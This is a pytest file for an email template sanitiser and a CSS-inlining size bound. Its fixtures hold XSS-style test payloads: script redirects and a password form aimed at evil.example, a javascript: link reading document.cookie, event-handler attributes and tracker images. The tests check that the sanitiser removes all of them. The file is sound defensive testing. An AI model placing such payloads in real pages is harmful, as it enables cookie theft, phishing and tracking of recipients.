"""The HTML an organisation writes: its CSS inlined within a bound, then sanitised."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from shared.emails.builtin import builtin_template_set
from shared.emails.inlining import INLINER, MAX_INLINED_CHARS, inlined, inlined_size
from shared.emails.locales import LOCALES, Locale
from shared.emails.purposes import PURPOSES, Purpose, sample_context
from shared.emails.rendering import check_template_set, render_email
from shared.emails.sanitising import sanitised
from shared.emails.template_set import TemplatePartProblem, TemplateSet

HOSTILE_HTML = (
    "<html><head><title>Hidden title</title><style>p { color: red }</style>"
    '<link rel="stylesheet" href="https://tracker.example/s.css"></head>'
    '<body style="background-color: #eeeeee"><p>Dear <b>Ann</b>, <i>welcome</i>.</p>'
    "<script>document.location='https://evil.example'</script>"
    '<img src="https://tracker.example/pixel.gif" alt="pixel" onerror="alert(1)">'
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">'
    '<img src="cid:signature" alt="signature">'
    '<a href="javascript:alert(document.cookie)">click</a>'
    '<a href="data:text/html,<script>alert(1)</script>">data</a>'
    '<a href="https://careers.example/jobs/1" onclick="steal()">Our jobs</a>'
    '<a href="mailto:hr@example.org">Mail us</a>'
    '<iframe src="https://evil.example/frame">framed</iframe>'
    '<form action="https://evil.example/login"><input name="password"></form>'
    '<p style="background-image: url(https://tracker.example/bg.png); color: #123456;'
    ' border: 1px solid #cccccc; position: fixed">Styled</p>'
    '<table><tr><td colspan="2" style="padding: 4px">Cell</td></tr></table>'
    "</body></html>"
)


class _Parts(HTMLParser):
    """Elements (tag, attributes) and text, to compare documents by what they hold."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        if data.strip():
            self.text.append(data.strip())


def _parts(html: str) -> _Parts:
    parser = _Parts()
    parser.feed(html)
    parser.close()
    return parser


def _declarations(style: str | None) -> set[str]:
    return {re.sub(r"\s+", "", d) for d in (style or "").split(";") if d.strip()}


def test_what_can_run_or_load_is_removed_and_formatting_stays() -> None:
    # When hostile HTML is sanitised
    clean = sanitised(HOSTILE_HTML, lang="en")
    parts = _parts(clean)
    tags = [tag for tag, _ in parts.tags]

    # Then nothing that runs, frames, posts or loads from elsewhere is left
    for gone in ("script", "iframe", "form", "input", "link", "title"):
        assert gone not in tags
    for text in ("evil.example", "tracker.example", "javascript:", "onerror", "onclick"):
        assert text not in clean
    assert "Hidden title" not in clean and "data:text/html" not in clean
    # And the formatting, the links and the inline images are kept
    assert "<b>Ann</b>" in clean and "<i>welcome</i>" in clean
    hrefs = [attrs.get("href") for tag, attrs in parts.tags if tag == "a"]
    assert hrefs == [None, None, "https://careers.example/jobs/1", "mailto:hr@example.org"]
    sources = [attrs.get("src") for tag, attrs in parts.tags if tag == "img"]
    assert sources == [None, "data:image/png;base64,iVBORw0KGgo=", "cid:signature"]
    styled = next(attrs for tag, attrs in parts.tags if tag == "p" and attrs.get("style"))
    assert _declarations(styled["style"]) == {"color:#123456", "border:1pxsolid#cccccc"}
    assert ("td", {"colspan": "2", "style": "padding:4px"}) in parts.tags
    # And it is a whole document in the email's language, the body's style kept
    assert clean.startswith('<!DOCTYPE html>\n<html lang="en">')
    assert ("div", {"style": "background-color:#eeeeee"}) in parts.tags


@pytest.mark.parametrize("locale", LOCALES)
@pytest.mark.parametrize("purpose", PURPOSES)
def test_a_built_in_email_keeps_everything_through_the_sanitiser(
    purpose: Purpose, locale: Locale
) -> None:
    # Given a built-in email (which goes out as it is: werving's own)
    html = render_email(purpose, locale, sample_context(purpose, locale)).html

    # When the same HTML is sanitised, as an organisation's copy of it would be
    before, after = _parts(html), _parts(sanitised(html, lang=locale))

    # Then every element of its body, every attribute and every text is still there
    body = [(t, a) for t, a in before.tags if t not in ("html", "head", "meta", "title")]
    kept = [(t, a) for t, a in after.tags if t not in ("html", "head", "meta")][1:]
    assert [t for t, _ in kept] == [t if t != "body" else "div" for t, _ in body]
    for (_, original), (_, clean) in zip(body, kept, strict=True):
        assert {k: v for k, v in clean.items() if k not in ("style", "rel")} == {
            k: v for k, v in original.items() if k != "style"
        }
        assert _declarations(clean.get("style")) == _declarations(original.get("style"))
    _title, *text = before.text  # the title is the head's, which the sanitiser replaces
    assert after.text == text


def test_an_organisations_html_part_is_sanitised_when_rendered_and_previewed() -> None:
    # Given an organisation template whose HTML part carries a script and a tracker
    templates = builtin_template_set("receipt", "en")
    hostile = TemplateSet(
        templates.subject,
        templates.text,
        "<p>Dear {{ applicant_name }}</p><script>alert(1)</script>"
        '<img src="https://tracker.example/p.gif"><a href="javascript:x()">x</a>',
    )

    # When it is rendered for sending, and checked (with its preview) before saving
    sent = render_email("receipt", "en", sample_context("receipt", "en"), override=hostile)
    previewed = check_template_set("receipt", hostile.subject, hostile.text, hostile.html)

    # Then neither holds anything that runs or loads, and the greeting is there
    for html in (sent.html, previewed.html):
        assert "<script" not in html and "tracker.example" not in html
        assert "javascript:" not in html
        assert "<p>Dear Sanne de Vries</p>" in html


STYLESHEETS = [
    "p { color: red; margin: 0 }",
    "p { --a: 'x;y:z}w'; color: red!important } p.x { color: blue }",
    "p { --b: /* a long comment that css_inline keeps in the value */ 1 }",
    "p { --\\63 ustom: \\41\\42\\43; \\63olor: red; color: blue }",
    "@media (min-width: 1px) { p { padding: 1px } } * { --z: [1,2,3] }",
    " ".join(f"* {{ --p{i}: {'x' * 40}; }}" for i in range(50)),
    " ".join(f"td, th {{ color: #{i:06x}; }}" for i in range(100)),
]
BODIES = [
    "<p class=x>a</p><p>b</p>",
    "<table><td>1</td><td>2</td></table><table><th>3</th></table>",
    "<div><span>a</span></div>" * 20,
]


@pytest.mark.parametrize("body", BODIES)
@pytest.mark.parametrize("css", STYLESHEETS)
def test_the_inlining_estimate_is_never_below_what_css_inline_writes(css: str, body: str) -> None:
    html = f"<html><head><style>{css}</style></head><body>{body}</body></html>"
    assert inlined_size(html) >= len(INLINER.inline(html))


def test_inlining_that_could_multiply_the_html_is_refused_before_it_runs() -> None:
    # Given a stylesheet of 200 long properties for every element, and 2,000 elements
    css = " ".join(f"* {{ --p{i}: {'x' * 50}; }}" for i in range(200))
    html = f"<style>{css}</style>" + "<p>x</p>" * 2000

    # Then inlining it is refused, naming the HTML part and the limit
    assert inlined_size(html) > MAX_INLINED_CHARS
    with pytest.raises(TemplatePartProblem) as refused:
        inlined(html)
    assert refused.value.part == "html"
    assert f"longer than {MAX_INLINED_CHARS} characters" in str(refused.value)


@pytest.mark.parametrize("locale", LOCALES)
@pytest.mark.parametrize("purpose", PURPOSES)
def test_a_built_in_template_copied_by_an_organisation_stays_well_within_the_bound(
    purpose: Purpose, locale: Locale
) -> None:
    assert inlined_size(builtin_template_set(purpose, locale).html) < MAX_INLINED_CHARS // 10
